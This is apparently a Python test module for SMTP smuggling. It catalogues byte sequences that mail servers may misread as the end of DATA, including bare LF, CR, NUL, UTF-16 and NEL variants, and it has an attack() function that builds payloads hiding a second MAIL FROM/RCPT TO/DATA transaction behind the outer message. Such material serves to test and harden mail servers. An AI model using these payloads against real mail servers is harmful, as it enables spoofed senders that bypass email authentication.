"""What is known to have been taken for the end of DATA by somebody, and attacks made of it.

Compiled from what was published about SMTP smuggling: SEC Consult (December 2023, CR, LF and NUL
around a dot), Postfix's notes on smtpd_forbid_bare_newline (LF alone, and CR CR LF, which eats all
CRs before a LF), CVE-2023-51764 to -51766, and the reports on NUL that followed. ``SEQUENCES`` is
all of their kind and not only those that have worked: every break before a dot with every break
behind it, and what does not fit into that table.

Standard library only and nothing of gwsmtp.
"""

from typing import Final

BREAKS: Final = {
    "nothing": b"",
    "CRLF": b"\r\n",
    "LF": b"\n",
    "CR": b"\r",
    "CRCR": b"\r\r",
    "LFLF": b"\n\n",
    "CRCRLF": b"\r\r\n",
    "CRLFLF": b"\r\n\n",
    "LFCR": b"\n\r",
    "CRNULLF": b"\r\0\n",
    "NULCRLF": b"\0\r\n",
    "CRLFNUL": b"\r\n\0",
    "LFNUL": b"\n\0",
    "NULLF": b"\0\n",
}
"""What somebody may take for a line end, and no line end at all."""

END_OF_DATA: Final = b"\r\n.\r\n"

_OTHERS: Final = {
    "dots-2": b"\r\n..\r\n",
    "dots-3": b"\r\n...\r\n",
    "dots-2-LF": b"\n..\n",
    "dots-2-CR": b"\r..\r",
    "dots-2-LF-CRLF": b"\n..\r\n",
    "dots-2-CRLF-LF": b"\r\n..\n",
    "dots-2-joined": b"\r\n.\r..\r\n",
    "stuffed-LF": b"\r\n..\n.\n",
    "stuffed-then-LF": b"\r\n..\r\n\n.\r\n",
    "LF-stuffed-LF": b"\n.\n..\n.\n",
    "CR-before-the-end": b"\r\n\r.\r\n",
    "LF-before-the-end": b"\r\n\n.\n\n",
    "dot-CR-LF-apart": b"\r\n.\r.\n",
    "dot-CRs": b"\r\n.\r\r\r\n",
    "dot-blank": b"\r\n. \r\n",
    "dot-tab": b"\r\n.\t\r\n",
    "blank-dot": b"\r\n .\r\n",
    "dot-NUL-dot": b"\r\n.\0.\r\n",
    "NULs": b"\0\r\0\n\0.\0\r\0\n\0",
    "NULs-only": b"\0.\0",
    "UTF-16": b"\r\0\n\0.\0\r\0\n\0",
    "eighth-bit": b"\x8d\x8a.\x8d\x8a",
    "overlong-UTF-8": b"\xc0\x8d\xc0\x8a.\xc0\x8d\xc0\x8a",
    "NEL": b"\x85.\x85",
    "NEL-UTF-8": b"\xc2\x85.\xc2\x85",
    "U+2028": b"\xe2\x80\xa8.\xe2\x80\xa8",
    "VT": b"\x0b.\x0b",
    "FF": b"\x0c.\x0c",
    "dot-ctrl-Z": b"\r\n.\x1a\r\n",
    "dot-backspace": b"\r\nx\x08.\r\n",
    "half-the-end-CR": b"\r\n.\r",
    "half-the-end-twice": b"\r\n.\r\r\n.\r",
    "half-the-end-and-LF": b"\r\n.\r\0\n.\n",
}

SEQUENCES: Final[dict[str, bytes]] = {
    f"{before}-{after}": BREAKS[before] + b"." + BREAKS[after]
    for before in BREAKS
    for after in BREAKS
    if BREAKS[before] + b"." + BREAKS[after] != END_OF_DATA
} | _OTHERS
"""By name. Some contain CRLF.CRLF, as CR CRLF.CRLF does: those are ends, whatever stands before."""

AT_THE_BEGIN: Final[dict[str, bytes]] = {
    f"begin-{after}": b"." + octets for after, octets in BREAKS.items()
} | {"begin-dots-2": b"..\r\n", "begin-LF-dot": b"\n.\n", "begin-CR-dot": b"\r.\r"}
"""At the very begin of a payload, which is the begin of a line; "begin-CRLF" is the end."""

HEADER: Final = b"Subject: outer\r\n\r\nouter"
_HIDDEN: Final = (
    b"MAIL FROM:<evil@client.example>",
    b"RCPT TO:<victim@example.test>",
    b"DATA",
    b"Subject: hidden",
    b"",
    b"hidden",
)


def is_sound(payload: bytes) -> bool:
    """Whether ``payload`` holds no end of data that odd octets follow: what stands behind such an
    end are commands, and the first of them is broken, so no reader has anything to disagree on.
    """
    found = (b"\r\n" + payload).find(END_OF_DATA)
    return found < 0 or payload[found + 3 :].startswith(b"MAIL")


def attack(sequence: bytes, head: bytes = HEADER, line_end: bytes = b"\r\n") -> bytes:
    """A payload up to its end of data: a message, ``sequence``, and a hidden transaction."""
    return head + sequence + line_end.join(_HIDDEN)
